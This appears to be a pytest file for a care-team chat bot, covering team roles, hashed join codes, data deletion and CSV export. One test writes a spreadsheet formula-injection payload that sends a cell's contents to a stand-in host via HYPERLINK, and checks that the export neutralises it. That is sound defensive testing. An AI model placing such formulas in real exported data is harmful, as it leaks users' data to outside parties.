"""Teams as pure engines, without a network: roles, codes, and what supervisors see."""

from __future__ import annotations

from messages import fields, head, text

from outcomes_bot.team.teams import Teams, code_hash


def team_with(flows, store, engine):
    """A team with a supervisor and a worker; (teams, join code)."""
    teams = Teams(flows, store, admins=frozenset({"sup"}), join_link="https://t.me/bot?start={code}")
    made = fields("team_made", teams.new_team("sup", "Sam", "Valley Care")[0].text)
    code = made["code"]
    assert made["team"] == "Valley Care" and made["link"] == f"https://t.me/bot?start={code}"
    teams.join("wyn", "Wyn", code)
    return teams, code


def practise(engine, user: str, lines: list[str]) -> None:
    """A whole practice: start, say each line, end."""
    engine.start(user, "haircut")
    for line in lines:
        engine.say(user, line)
    engine.end(user)


def test_the_overview_shows_practice_and_a_trap_trend_without_ranking(flows, store, engine):
    teams, _ = team_with(flows, store, engine)
    practise(engine, "wyn", ["You should really get out more, Huw.", "You need to see a doctor about it."])
    practise(engine, "wyn", ["What matters most to you, Huw?", "It sounds like the barber's means a lot to you."])
    overview = teams.overview("sup")[0].text
    assert head("team_overview", team="Valley Care", count=2, code=text("code_active")) in overview
    wyn = head("member_line", name="Wyn", role=text("role_worker"), practice=head("practice_count", count=2))
    assert wyn in overview
    assert text("trap_trend", before="1.00", after="0.00", trend=text("trend_fewer")) in overview
    # never by score
    assert overview.index(head("member_line", name="Sam")) < overview.index(head("member_line", name="Wyn"))
    assert "You should really" not in overview  # figures, never what was typed


def test_codes_are_kept_only_as_hashes_and_a_new_code_replaces_the_old(flows, store, engine):
    teams, code = team_with(flows, store, engine)
    assert store.team_by_code(code_hash(code))["name"] == "Valley Care"
    assert code not in str(store.db.execute("SELECT * FROM teams").fetchall())
    new = fields("code_rotated", teams.new_code("sup")[0].text)["code"]
    assert new != code and len(new) >= 16
    assert teams.join("x", "X", code)[0].text == text("bad_code")
    assert teams.join("x", "X", new)[0].text == text("joined", team="Valley Care")


def test_roles_co_supervisors_leaving_and_choosing_a_team(flows, store, engine):
    teams, code = team_with(flows, store, engine)
    member = next(m for m in store.members(1) if m["user"] == "wyn")
    assert teams.make_cosupervisor("wyn", member["id"])[0].text == text("not_supervisor")
    made = teams.make_cosupervisor("sup", member["id"])
    assert made[0].text == text("cosupervisor_made", name="Wyn", team="Valley Care") and made[1].to == "wyn"
    assert teams.overview("wyn")[0].text.startswith(head("team_overview", team="Valley Care"))
    assert teams.leave("wyn", 1)[0].text == text("left_team", team="Valley Care")
    assert teams.overview("wyn")[0].text == text("not_supervisor")
    assert teams.use_team("wyn", 1)[0].text == text("not_in_that_team")
    assert teams.remove("sup", member["id"])[0].text == text("member_gone")


def test_ids_are_never_reused_so_an_old_button_cannot_act_on_a_new_thing(flows, store, engine):
    from outcomes_bot.team.reflections import Reflections

    teams, code = team_with(flows, store, engine)
    notes = Reflections(flows, store)
    first = notes.write("wyn", "First thought")[0].buttons
    share_first = next(b for row in first for b in row if b.action == "share")
    notes.delete("wyn", *map(int, next(b for row in first for b in row if b.action == "delete").arg.split(".")))
    notes.write("wyn", "A second, private thought")
    rid, team, version = map(int, share_first.arg.split("."))
    assert notes.share("wyn", rid, team, version, shared=True)[0].text == text("reflect_gone")
    assert store.count_shared_with(1) == 0
    old = next(m for m in store.members(1) if m["user"] == "wyn")
    teams.remove("sup", old["id"])
    teams.join("olu", "Olu", code)
    assert teams.remove("sup", old["id"])[0].text == text("member_gone")
    assert store.role(1, "olu") == "worker"


def test_a_choice_about_identifying_details_applies_only_to_its_own_draft(flows, store):
    from outcomes_bot.team.reflections import Reflections

    notes = Reflections(flows, store)
    first = notes.write("wyn", "Mrs Jones smiled")[0].buttons
    old_keep = next(b for row in first for b in row if b.arg.startswith("keep."))
    notes.write("wyn", "Mr Hughes, 07700 900123")  # a second draft replaces the first
    choice, nonce = old_keep.arg.split(".")
    assert notes.resolve("wyn", choice, nonce)[0].text == text("out_of_date")
    assert store.reflections_of("wyn", 5) == []


def test_forget_by_the_only_supervisor_closes_the_team_and_tells_its_members(flows, store, engine):
    teams, code = team_with(flows, store, engine)
    teams.send_prompt("sup", "What went well?")
    teams.add_schedule("sup", "weekly mon 09:00 How was the week?")
    assert engine.forget_warnings("sup") == [text("forget_will_close", team="Valley Care", count=1)]
    said = engine.forget("sup")
    assert [r.text for r in said if not r.to][1:] == [
        text("forgotten_prompts", prompts=1, schedules=1),
        text("forget_closed", team="Valley Care", count=1),
    ]
    closed = text("team_closed_for_you", team="Valley Care")
    assert [(r.to, r.text) for r in said if r.to] == [("wyn", closed)]
    for table in ("teams", "members", "prompts", "schedules"):
        assert store.db[table].count == 0, table
    assert teams.join("new", "New", code)[0].text == text("bad_code")
    assert teams.my_teams("wyn")[0].text == text("no_teams")


def test_forget_hands_a_team_to_its_co_supervisor_who_is_told(flows, store, engine):
    teams, code = team_with(flows, store, engine)
    member = next(m for m in store.members(1) if m["user"] == "wyn")
    teams.make_cosupervisor("sup", member["id"])
    teams.join("olu", "Olu", code)
    teams.add_schedule("sup", "weekly mon 09:00 How was the week?")
    assert engine.forget_warnings("sup") == [text("forget_will_hand_over", team="Valley Care", name="Wyn")]
    said = engine.forget("sup")
    assert text("forget_handed_over", team="Valley Care", name="Wyn") in [r.text for r in said if not r.to]
    assert [r.to for r in said if r.to] == ["wyn"] and said[-1].text == text("team_handed_to_you", team="Valley Care")
    assert store.team(1)["created_by"] == "wyn" and store.schedules() == []
    assert teams.lead(store.team(1)) == "wyn"
    assert teams.join("new", "New", code)[0].text == text("joined", team="Valley Care")  # the team goes on
    assert [m["user"] for m in store.members(1)] == ["new", "olu", "wyn"]


def test_the_last_supervisor_cannot_leave_others_behind_and_a_schedule_outlives_its_maker(flows, store, engine):
    teams, _ = team_with(flows, store, engine)
    assert teams.leave("sup", 1)[0].text == text("last_supervisor", team="Valley Care")
    (made,) = teams.add_schedule("sup", "daily 09:00 How did today go?")
    member = next(m for m in store.members(1) if m["user"] == "wyn")
    teams.make_cosupervisor("sup", member["id"])
    assert teams.leave("sup", 1)[0].text == text("left_team", team="Valley Care")
    store.add_member(1, "olu")
    sent = teams.fire(made.data["schedule"]["id"])
    assert [r.to for r in sent if r.to] == ["olu"] and head("prompt_to_member", name="Wyn") in sent[0].text


def test_exported_cells_never_run_as_spreadsheet_formulas(flows, store, engine):
    from outcomes_bot.team.reflections import Reflections

    teams, _ = team_with(flows, store, engine)
    saved = Reflections(flows, store).write("wyn", '=HYPERLINK("http://x.example/?"&A1,"click")')[0].buttons
    share = next(b for row in saved for b in row if b.action == "share")
    Reflections(flows, store).share("wyn", *map(int, share.arg.split(".")), shared=True)
    content = teams.export("sup")[0].data["content"].decode("utf-8-sig")
    assert "'=HYPERLINK" in content and "\n=HYPERLINK" not in content and ",=HYPERLINK" not in content


def test_a_round_link_works_whatever_its_random_token_ends_with(flows, store, monkeypatch):
    """A token is random, so it may itself end in "-s", the mark of the support link."""
    from outcomes_bot.store import teabrief as tea_store
    from outcomes_bot.team.teabrief import TeaBrief

    monkeypatch.setattr(tea_store.secrets, "token_urlsafe", lambda n: "abcdefghij-s")
    tea = TeaBrief(flows, store)
    tea.open(-100, "tg:1")
    plain = tea.from_link("tg:2", "tb1-abcdefghij-s")
    support = tea.from_link("tg:2", "tb1-abcdefghij-s-s")
    assert plain[0].buttons and len(plain[0].buttons) > 1  # the choice of prompts
    assert "supervisor" in support[0].text.lower() and not support[0].buttons  # straight to the support prompt
    assert tea.from_link("tg:2", "tb1-guess")[0].text == tea.text("bad_button")
    assert tea.from_link("tg:2", "ABC123") is None  # a team's join code, not a round's link


def test_after_forget_a_persons_id_is_nowhere_in_the_database(flows, store, engine):
    """Everything that named the supervisor: a team, a prompt, a schedule, a reflection, a tea-brief round."""
    from outcomes_bot.team.reflections import Reflections
    from outcomes_bot.team.teabrief import TeaBrief

    teams, _ = team_with(flows, store, engine)
    teams.send_prompt("sup", "What went well?")
    teams.add_schedule("sup", "weekly mon 09:00 How was the week?")
    Reflections(flows, store).write("sup", "We sat in the garden")
    tea = TeaBrief(flows, store)
    tea.open(-100, "sup")
    practise(engine, "sup", ["What matters most to you, Huw?"])
    store.forget("sup")
    for (table,) in store.db.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
        for row in store.db.execute(f"SELECT * FROM [{table}]").fetchall():
            assert "sup" not in row, f"{table} still holds the id: {row}"
